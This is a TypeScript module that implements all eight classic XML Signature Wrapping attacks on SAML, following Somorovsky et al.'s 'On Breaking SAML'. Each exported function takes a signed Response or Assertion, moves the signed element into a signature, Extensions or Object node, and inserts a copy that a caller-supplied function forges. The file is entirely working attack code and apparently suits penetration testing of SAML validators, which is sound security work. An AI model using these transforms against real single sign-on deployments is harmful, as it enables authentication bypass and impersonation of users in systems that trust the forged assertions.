import { DOMParser, XMLSerializer } from '@xmldom/xmldom';

/**
 * Moves what was signed elsewhere and puts something else in its place, in the eight classic ways.
 * Source: Somorovsky et al., "On Breaking SAML", USENIX Security 2012; XSW1 and XSW2 want a signed Response, the others
 * a signed Assertion.
 */
export type WrappingAttack = (xml: string, forge: Forge) => string;

/** Turns a copy of what was signed into what the attacker wants to be read. */
export type Forge = (element: Element) => void;

const SIGNATURE = 'http://www.w3.org/2000/09/xmldsig#';

export const WRAPPING_ATTACKS: Readonly<Record<string, WrappingAttack>> = {
  'XSW1: the signed Response within the signature of a forged one': (xml, forge) =>
    changed(xml, (root) => {
      const original = withoutSignature(root);
      forge(root);
      signatureOf(root).appendChild(original);
    }),
  'XSW2: the signed Response beside the signature of a forged one': (xml, forge) =>
    changed(xml, (root) => {
      const original = withoutSignature(root);
      forge(root);
      root.insertBefore(original, signatureOf(root));
    }),
  'XSW3: a forged Assertion before the signed one': (xml, forge) =>
    changed(xml, (root) => {
      const signed = assertionOf(root);
      root.insertBefore(forged(signed, forge), signed);
    }),
  'XSW4: a forged Assertion around the signed one': (xml, forge) =>
    changed(xml, (root) => {
      const signed = assertionOf(root);
      const wrapper = forged(signed, forge);
      root.replaceChild(wrapper, signed);
      wrapper.appendChild(signed);
    }),
  'XSW5: the signature on a forged Assertion, the signed one at the end': (xml, forge) =>
    changed(xml, (root) => {
      const signed = assertionOf(root);
      root.appendChild(withoutSignature(signed));
      forge(signed);
    }),
  'XSW6: the signed Assertion within the signature of a forged one': (xml, forge) =>
    changed(xml, (root) => {
      const signed = assertionOf(root);
      const original = withoutSignature(signed);
      forge(signed);
      signatureOf(signed).appendChild(original);
    }),
  'XSW7: a forged Assertion within Extensions': (xml, forge) =>
    changed(xml, (root) => {
      const signed = assertionOf(root);
      const extensions = ownerOf(root).createElementNS(
        'urn:oasis:names:tc:SAML:2.0:protocol',
        'samlp:Extensions',
      );
      extensions.appendChild(forged(signed, forge));
      root.insertBefore(extensions, signed);
    }),
  'XSW8: the signed Assertion within an Object of a forged one': (xml, forge) =>
    changed(xml, (root) => {
      const signed = assertionOf(root);
      const original = withoutSignature(signed);
      forge(signed);
      const object = ownerOf(root).createElementNS(SIGNATURE, 'ds:Object');
      object.appendChild(original);
      signatureOf(signed).appendChild(object);
    }),
};

function changed(xml: string, change: (root: Element) => void): string {
  const document = new DOMParser().parseFromString(xml, 'text/xml');
  change(document.documentElement);
  return new XMLSerializer().serializeToString(document);
}

function forged(signed: Element, forge: Forge): Element {
  const copy = withoutSignature(signed);
  forge(copy);
  return copy;
}

function withoutSignature(element: Element): Element {
  const copy = element.cloneNode(true) as Element;
  copy.removeChild(signatureOf(copy));
  return copy;
}

function signatureOf(element: Element): Element {
  return childOf(element, 'Signature');
}

function assertionOf(root: Element): Element {
  return childOf(root, 'Assertion');
}

function childOf(element: Element, name: string): Element {
  const child = Array.from(element.childNodes).find((node) => (node as Element).localName === name);
  if (child === undefined) throw new Error(`There is no ${name} in ${element.localName}.`);
  return child as Element;
}

function ownerOf(element: Element): Document {
  if (element.ownerDocument === null) throw new Error('The element belongs to no document.');
  return element.ownerDocument;
}
